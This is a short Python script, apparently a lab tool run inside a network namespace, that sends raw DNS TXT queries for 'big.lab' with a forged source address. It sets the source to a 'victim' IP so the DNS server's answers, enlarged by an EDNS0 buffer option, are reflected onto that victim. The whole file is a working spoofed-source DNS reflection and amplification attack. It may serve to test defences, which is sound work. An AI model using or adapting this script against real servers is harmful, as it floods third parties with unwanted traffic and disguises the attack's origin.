"""Questions for big.lab TXT in another host's name: spoof_dns.py NAMESPACE VICTIM SERVER COUNT."""
import ctypes
import os
import socket
import struct
import sys
import time

space, victim, server, count = sys.argv[1:]
ctypes.CDLL(None).setns(os.open(f"/run/netns/{space}", os.O_RDONLY), 0)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(int(count)):
    question = struct.pack("!HHHHHH", number + 1, 0x0000, 1, 0, 0, 1) + b"\x03big\x03lab\x00\x00\x10\x00\x01"
    question += b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
    udp = struct.pack("!HHHH", 5353 + number % 3, 53, 8 + len(question), 0) + question
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(victim),
                       socket.inet_aton(server))
    raw.sendto(head + udp, (server, 0))
    time.sleep(0.01)
